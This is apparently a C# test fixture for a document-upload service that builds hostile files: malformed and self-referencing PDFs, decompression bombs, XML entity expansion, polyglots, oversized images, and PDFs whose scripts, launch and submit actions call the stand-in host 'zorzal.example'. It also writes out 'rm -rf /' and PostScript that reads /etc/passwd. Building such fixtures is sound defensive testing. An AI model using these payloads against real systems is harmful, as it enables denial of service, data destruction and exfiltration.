using System.Globalization;
using System.IO.Compression;
using System.Text;
using LawLab.Grains.Tests.BorderX.Packets;
using LawLab.Grains.Tests.Testing;

namespace LawLab.Grains.Tests.BorderX.Contents;

/// <summary>A file that somebody uploads who means harm, or whose program broke it.</summary>
/// <param name="Name">What it is.</param>
/// <param name="Code">Code of the refusal; null where it becomes paper, or is refused, and neither acts nor tells.</param>
/// <param name="Make">Its bytes.</param>
internal sealed record HostileFile(string Name, string? Code, Func<byte[]> Make);

/// <summary>Files that hurt, made byte by byte: of wrong types, broken, packed to burst, acting, two things at once.</summary>
internal static class HostileFiles
{
    /// <summary>Stands in all that must not come out again.</summary>
    public const string Secret = "http://zorzal.example/telling";

    private const string Type = "exhibit.type";
    private const string Damaged = "exhibit.damaged";
    private const string TooMuch = "exhibit.too-much";
    private const string Empty = "exhibit.empty";

    public static IReadOnlyList<HostileFile> All { get; } = [.. WrongTypes(), .. Broken(), .. Bursting(), .. Acting(), .. Pictures()];

    private static IEnumerable<HostileFile> WrongTypes() =>
    [
        new("a document of Word", Type, () => Zip("word/document.xml", "<w:document/>"u8.ToArray())),
        new("a sheet of Excel", Type, () => Zip("xl/workbook.xml", "<workbook/>"u8.ToArray())),
        new("an old document of Word", Type, () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[4_000]]),
        new("a page of the web", Type, () => Bytes($"<!doctype html><script>fetch('{Secret}')</script>")),
        new("a drawing with a script", Type, () => Bytes($"<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('{Secret}')</script></svg>")),
        new("XML whose names unfold", Type, () => Bytes("<!DOCTYPE a [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]><a>&c;</a>")),
        new("a program of Linux", Type, () => [0x7f, .. "ELF"u8, .. new byte[2_000]]),
        new("a program of Windows", Type, () => [.. "MZ"u8, .. new byte[2_000]]),
        new("a script", Type, () => "#!/bin/sh\nrm -rf /\n"u8.ToArray()),
        new("PostScript", Type, () => "%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n"u8.ToArray()),
        new("a GIF", Type, () => [.. "GIF89a"u8, .. new byte[500]]),
        new("a TIFF", Type, () => [.. "II*\0"u8, .. new byte[500]]),
        new("a WebP", Type, () => [.. "RIFF\0\0\0\0WEBPVP8 "u8, .. new byte[500]]),
        new("a picture of a telephone", Type, () => [0, 0, 0, 24, .. "ftypheic"u8, .. new byte[500]]),
        new("an archive that unpacks to a gigabyte", Type, () => Zip("zeros", new byte[64 * 1024 * 1024])),
        new("an archive in an archive", Type, () => Zip("inner.zip", Zip("zeros", new byte[1024 * 1024]))),
        new("a packed file", Type, () => Packed(new byte[1024 * 1024])),
        new("nothing", Type, () => []),
        new("one letter", Type, () => "%"u8.ToArray()),
        new("zeros", Type, () => new byte[1024 * 1024]),
        new("a letter with a PDF in it", Type, () => [.. Bytes("From: somebody\r\n" + new string('x', 2_000)), .. Good()]),
    ];

    private static IEnumerable<HostileFile> Broken() =>
    [
        new("a PDF with a password", "exhibit.encrypted", Locked),
        new("a form that one program shows", "exhibit.xfa", () => MadePdf.Of([MadePdf.Text("Please wait", 1)], "/NeedsRendering true /AcroForm << /Fields [] /XFA 5 0 R >>", null, "<< >>\u0001<xdp/>")),
        new("a PDF that is cut off", Damaged, () => MadePdf.Of([MadePdf.Text("one", 40)])[..700]),
        new("a PDF of noise", Damaged, () => [.. "%PDF-1.7\n"u8, .. Noise(5_000)]),
        new("a PDF that is its first line", Damaged, () => "%PDF-1.7\n"u8.ToArray()),
        new("a PDF without pages", Empty, () => MadePdf.Of([])),
        new("a PDF whose pages lead in a circle", Empty, () => Changed("/Kids [5 0 R]", "/Kids [2 0 R]")),
        new("a PDF that says it has two thousand million pages", null, () => Changed("/Count 1", "/Count 2000000000")),
        new("a PDF that has one page a hundred thousand times", null, () => Changed("/Kids [5 0 R]", $"/Kids [{Repeated("5 0 R ", 100_000)}]")),
        new("a PDF without its table", null, () => Changed("startxref", "startnothing")),
        new("a PDF whose table is far away", null, () => Changed("startxref\n", "startxref\n99999999999")),
        new("a PDF whose table is before its beginning", null, () => Changed("startxref\n", "startxref\n-")),
        new("a PDF whose table leads to itself", null, () => Changed("/Root 1 0 R", "/Prev 9 /Root 1 0 R")),
        new("a PDF of dictionaries in each other", null, () => MadePdf.Of([MadePdf.Text("one", 3, more: "/A " + Repeated("<< /A ", 20_000) + "1" + Repeated(" >>", 20_000))])),
        new("a PDF of lists in each other", null, () => MadePdf.Of([MadePdf.Text("one", 3, more: "/A " + Repeated("[ ", 100_000) + Repeated("] ", 100_000))])),
        new("a PDF of lists without an end", null, () => MadePdf.Of([MadePdf.Text("one", 3, more: "/A " + Repeated("[ ", 200_000))])),
        new("a PDF whose word does not end", null, () => MadePdf.Of([MadePdf.Text("one", 3, more: "/A (" + new string('(', 200_000))])),
        new("a PDF with a name of a million letters", null, () => MadePdf.Of([MadePdf.Text("one", 3, more: "/" + new string('A', 1_000_000) + " 1")])),
        new("a PDF of numbers that are none", null, () => MadePdf.Of([new MadePage("q 1e999 NaN -- .. 99999999999999999999 cm Q", "0 0 1e40 1e40")])),
        new("a PDF without paper", null, () => MadePdf.Of([new MadePage("", "0 0 0 0")])),
        new("a PDF inside out", null, () => MadePdf.Of([new MadePage("", "612 792 0 0")])),
        new("a PDF turned by a bit", null, () => MadePdf.Of([MadePdf.Text("one", 3, more: "/Rotate 45")])),
        new("a PDF as large as a country", null, () => MadePdf.Of([MadePdf.Text("one", 3, more: "/UserUnit 1000000000")])),
        new("a PDF whose stream has no length", null, () => Changed("/Length", "/Long")),
        new("a PDF whose stream is of less than nothing", null, () => Changed("/Length ", "/Length -")),
        new("a PDF whose stream goes on after its end", null, () => Changed("/Length ", "/Length 99999")),
        new("a PDF whose length is its own", null, () => MadePdf.Of([MadePdf.Text("one", 3, more: "/A 5 0 R")], "", null, "5 0 R")),
        new("a PDF whose page is its own parent", null, () => Changed("/Parent 2 0 R", "/Parent 5 0 R")),
        new("a PDF whose page is a picture of itself", null, () => Changed("/Contents 6 0 R", "/Contents [6 0 R 5 0 R 2 0 R 99 0 R]")),
    ];

    private static IEnumerable<HostileFile> Bursting() =>
    [
        new("a page that unpacks to two gigabytes", TooMuch, () => PageOf("/FlateDecode", PackedLines(30_000))),
        new("a page that unpacks twice to two gigabytes", TooMuch, () => PageOf("/FlateDecode /FlateDecode", Packed(PackedLines(30_000)))),
        new("a page that unpacks a hundred times", null, () => PageOf(Repeated("/ASCIIHexDecode ", 100), Bytes("41>"))),
        new("a page of runs", null, () => PageOf("/RunLengthDecode", [.. Enumerable.Repeat((byte[])[129, (byte)' '], 4_000_000).SelectMany(run => run)])),
        new("a page whose rows are as wide as memory", null, () => PageOf("/FlateDecode", Packed(new byte[1_000]), "/DecodeParms << /Predictor 12 /Columns 2000000000 >>")),
        new("a page that opens a million states", null, () => MadePdf.Of([new MadePage(Repeated("q ", 1_000_000))])),
        new("a page that closes a million states", null, () => MadePdf.Of([new MadePage(Repeated("Q ", 1_000_000))])),
        new("a page of a million letters", null, () => MadePdf.Of([new MadePage("BT /F 1 Tf " + Repeated("(aaaaaaaaaa) Tj ", 100_000) + "ET")])),
        new("a drawing that draws itself", null, () => MadePdf.Of([new MadePage("/X Do", More: "/Resources << /XObject << /X 5 0 R >> >>")], "", null, Drawing(5, 5))),
        new("drawings that draw each other twice, thirty deep", null, () => MadePdf.Of(
            [new MadePage("/X Do", More: "/Resources << /XObject << /X 5 0 R >> >>")], "", null, [.. Enumerable.Range(5, 30).Select(number => Drawing(number, number + 1))])),
        new("a pattern made of itself", null, () => MadePdf.Of(
            [new MadePage("/Pattern cs /P scn 0 0 600 700 re f", More: "/Resources << /Pattern << /P 5 0 R >> >>")], "", null,
            "<< /Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << /Pattern << /P 5 0 R >> >> >>\u0001/Pattern cs /P scn 0 0 1 1 re f")),
        new("a picture of a million million points", null, () => MadePdf.Of(
            [new MadePage("600 0 0 700 0 0 cm /X Do", More: "/Resources << /XObject << /X 5 0 R >> >>")], "", null,
            "<< /Type /XObject /Subtype /Image /Width 1000000 /Height 1000000 /BitsPerComponent 8 /ColorSpace /DeviceRGB >>\u0001x")),
        new("letters that stand for a million letters", null, () => MadePdf.Of(
            [new MadePage("BT /G 11 Tf (aaaa) Tj ET", More: "/Resources << /Font << /G 5 0 R >> >>")], "", null,
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>",
            "<< >>\u00011 begincodespacerange <00> <FF> endcodespacerange 1 beginbfrange <00> <FFFFFFFF> <" + Repeated("0041", 10_000) + "> endbfrange")),
    ];

    private static IEnumerable<HostileFile> Acting() =>
    [
        new("a PDF that runs a script when it is opened", null, () => MadePdf.Of([MadePdf.Text("one", 3)], $"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{Secret}'\\)) >>")),
        new("a PDF with scripts by name", null, () => MadePdf.Of([MadePdf.Text("one", 3)], $"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ({Secret}) >>] >> >>")),
        new("a PDF that starts a program", null, () => MadePdf.Of([MadePdf.Text("one", 3)], $"/OpenAction << /S /Launch /F ({Secret}) >>")),
        new("a page that acts when it is shown", null, () => MadePdf.Of([MadePdf.Text("one", 3, more: $"/AA << /O << /S /URI /URI ({Secret}) >> >>")])),
        new("a page with a link", null, () => MadePdf.Of([MadePdf.Text("one", 3, more: $"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /URI /URI ({Secret}) >> >>]")])),
        new("a button that sends", null, () => MadePdf.Of([MadePdf.Text("one", 3, more: $"/Annots [<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 600 700] /A << /S /SubmitForm /F ({Secret}) >> >>]")])),
        new("a PDF with a file in it", null, () => MadePdf.Of([MadePdf.Text("one", 3)], "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>", null, $"<< /Type /EmbeddedFile >>\u0001{Secret}")),
        new("a page whose picture stands elsewhere", null, () => MadePdf.Of(
            [new MadePage("/X Do", More: "/Resources << /XObject << /X 5 0 R >> >>")], "", null, $"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F ({Secret}) >> >>\u0001x")),
        new("a page that goes to another file", null, () => MadePdf.Of([MadePdf.Text("one", 3, more: $"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F ({Secret}) /D [0 /Fit] >> >>]")])),
        new("a page with a film", null, () => MadePdf.Of([MadePdf.Text("one", 3, more: $"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [(a) << /F ({Secret}) >>] >> >> >>]")])),
        new("a PDF that tells who made it", null, () => MadePdf.Of([MadePdf.Text("one", 3)], "/Metadata 5 0 R", null, $"<< /Type /Metadata /Subtype /XML >>\u0001<x>{Secret}</x>")),
        new("a PDF that is a page of the web and an archive besides", null, () => [.. Bytes($"<script>{Secret}</script>\n"), .. Good(), .. Zip("a", Bytes(Secret))]),
        new("a PDF with PostScript in it", null, () => MadePdf.Of([new MadePage("/X Do", More: "/Resources << /XObject << /X 5 0 R >> >>")], "", null, $"<< /Type /XObject /Subtype /PS >>\u0001({Secret}) run")),
    ];

    private static IEnumerable<HostileFile> Pictures() =>
    [
        new("a JPEG of four thousand million points", "exhibit.pixels", () => MadePicture.Jpeg(65_535, 65_535)),
        new("a PNG of more points than there are numbers", null, () => MadePicture.Png(int.MaxValue, int.MaxValue, bare: true)),
        new("a PNG of sixty million points that show through", null, () => Png(10_000, 6_000, Packed(new byte[6_000 * 40_001]), color: 6)),
        new("a PNG of nothing", Damaged, () => MadePicture.Png(0, 0)),
        new("a PNG that unpacks to more than it shows", Damaged, () => Png(2, 2, Packed(new byte[64 * 1024 * 1024]))),
        new("a PNG with rows that are not there", Damaged, () => Png(4_000, 4_000, Packed(new byte[10]), color: 6)),
        new("a PNG packed by nobody", Damaged, () => Png(2, 2, Noise(100), color: 6)),
        new("a PNG that is cut off", Damaged, () => MadePicture.Png()[..^60]),
        new("a PNG whose sum is wrong", Damaged, () => Flipped(MadePicture.Png(bare: true))),
        new("a PNG whose part is longer than the file", Damaged, () => [.. MadePicture.Png(bare: true)[..33], 0xFF, 0xFF, 0xFF, 0xFF, .. "IDAT"u8, .. new byte[50]]),
        new("a JPEG that is cut off", Damaged, () => MadePicture.Jpeg(bare: true)[..^10]),
        new("a JPEG of three bytes", Damaged, () => [0xFF, 0xD8, 0xFF]),
        new("a JPEG of a thousand scans", Damaged, () => Scans(1_000)),
        new("a JPEG turned by its own turning", null, () => [.. MadePicture.Jpeg(bare: true)[..2], .. MadePicture.Segment(0xE1, [.. "Exif\0\0MM\0*\0\0\0\u0008\u00FF\u00FF"u8, .. new byte[40]]), .. MadePicture.Jpeg(bare: true)[2..]]),
        new("a JPEG that is an archive besides", null, () => [.. MadePicture.Jpeg(), .. Zip("a", Bytes(Secret))]),
        new("a PNG that is a page of the web besides", null, () => [.. MadePicture.Png(), .. Bytes($"<script>{Secret}</script>")]),
        new("a JPEG that says it is a PDF", null, () => [.. MadePicture.Jpeg(bare: true)[..2], .. MadePicture.Segment(0xFE, Bytes("%PDF-1.7 " + Secret)), .. MadePicture.Jpeg(bare: true)[2..]]),
    ];

    private static byte[] Good() => MadePdf.Of([MadePdf.Text("one", 5)]);

    private static byte[] Changed(string from, string to) => Bytes(Encoding.Latin1.GetString(Good()).Replace(from, to, StringComparison.Ordinal));

    private static string Drawing(int number, int other) => string.Create(
        CultureInfo.InvariantCulture, $"<< /Type /XObject /Subtype /Form /BBox [0 0 600 700] /Resources << /XObject << /X {other} 0 R >> >> /Name /N{number} >>\u0001/X Do /X Do");

    /// <summary>A page whose contents are packed so.</summary>
    private static byte[] PageOf(string filters, byte[] data, string more = "")
    {
        const string Contents = "<< /Length 0 >>\nstream\n\nendstream";
        var stream = Encoding.Latin1.GetString(data);
        return Bytes(Encoding.Latin1.GetString(MadePdf.Of([new MadePage("")])).Replace(
            Contents, $"<< /Filter [{filters}] {more} /Length {stream.Length} >>\nstream\n{stream}\nendstream", StringComparison.Ordinal));
    }

    private static byte[] Png(int width, int height, byte[] data, byte color = 2) =>
    [
        0x89, .. "PNG\r\n"u8, 0x1A, (byte)'\n',
        .. MadePicture.Chunk("IHDR", [(byte)(width >> 24), (byte)(width >> 16), (byte)(width >> 8), (byte)width, (byte)(height >> 24), (byte)(height >> 16), (byte)(height >> 8), (byte)height, 8, color, 0, 0, 0]),
        .. MadePicture.Chunk("IDAT", data),
        .. MadePicture.Chunk("IEND", []),
    ];

    private static byte[] Scans(int count)
    {
        var jpeg = MadePicture.Jpeg(bare: true);
        var scan = jpeg.AsSpan().IndexOf((ReadOnlySpan<byte>)[0xFF, 0xDA]);
        return [.. jpeg[..scan], .. Enumerable.Repeat(jpeg[scan..^2], count).SelectMany(one => one), 0xFF, 0xD9];
    }

    private static byte[] Flipped(byte[] file)
    {
        file[45] ^= 0x55;
        return file;
    }

    /// <summary>Encrypted in the standard way, with a password that nobody gives.</summary>
    private static byte[] Locked()
    {
        var file = Encoding.Latin1.GetString(MadePdf.Of(
            [MadePdf.Text("one", 3)], "", null, $"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <{new string('A', 64)}> /U <{new string('B', 64)}> >>"));
        return Bytes(file.Replace("/Root 1 0 R", "/Root 1 0 R /Encrypt 5 0 R /ID [<00112233445566778899AABBCCDDEEFF> <00112233445566778899AABBCCDDEEFF>]", StringComparison.Ordinal));
    }

    /// <summary>Of 70 KB each; two gigabytes are never in memory at once.</summary>
    private static byte[] PackedLines(int times)
    {
        using var packed = new MemoryStream();
        using (var deflate = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true))
        {
            var lines = Bytes(Repeated("0 0 m 1 1 l S\n", 5_000));
            for (var at = 0; at < times; at++) deflate.Write(lines);
        }

        return packed.ToArray();
    }

    private static byte[] Zip(string name, byte[] contents)
    {
        using var archive = new MemoryStream();
        using (var zip = new ZipArchive(archive, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry(name).Open();
            entry.Write(contents);
        }

        return archive.ToArray();
    }

    private static byte[] Packed(byte[] data)
    {
        using var packed = new MemoryStream();
        using (var deflate = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true)) deflate.Write(data);
        return packed.ToArray();
    }

    private static byte[] Noise(int bytes)
    {
        var noise = new byte[bytes];
        new Random(7).NextBytes(noise);
        return noise;
    }

    private static string Repeated(string text, int times) => string.Concat(Enumerable.Repeat(text, times));

    private static byte[] Bytes(string latin1) => Encoding.Latin1.GetBytes(latin1);
}
